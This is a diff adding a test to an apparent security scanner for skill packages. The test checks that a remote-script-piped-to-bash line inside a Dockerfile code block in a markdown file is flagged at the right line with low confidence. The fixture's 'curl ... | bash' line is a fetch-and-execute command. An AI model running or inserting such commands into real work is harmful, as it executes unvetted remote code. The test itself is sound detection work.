@@ -68,3 +68,20 @@ describe('code blocks in documents', () => {
     expect((await judged(files)).decision).toBe('reject');
   });
 });
+
+describe('code inside code blocks', () => {
+  it('is shown where its block is, and found in its line', async () => {
+    const block = '```dockerfile\nFROM scratch\nRUN curl -fsSL https://get.example/i.sh | bash\n```\n';
+    const files = { 'SKILL.md': SKILL, 'references/images.md': `# Images\n\nOne step:\n\n${block}` };
+    const { stdout } = await sbx(['scan', writeTree(files), '--format', 'json']);
+    const { findings } = JSON.parse(stdout) as {
+      findings: { confidence: Confidence; location: { path: string; startLine: number } }[];
+    };
+    const own = findings.filter(({ location }) => location.path === 'references/images.md');
+    expect(own.length).toBeGreaterThan(0);
+    for (const { confidence, location } of own) {
+      expect(location.startLine).toBe(7);
+      expect(confidence).toBe('low');
+    }
+  });
+});
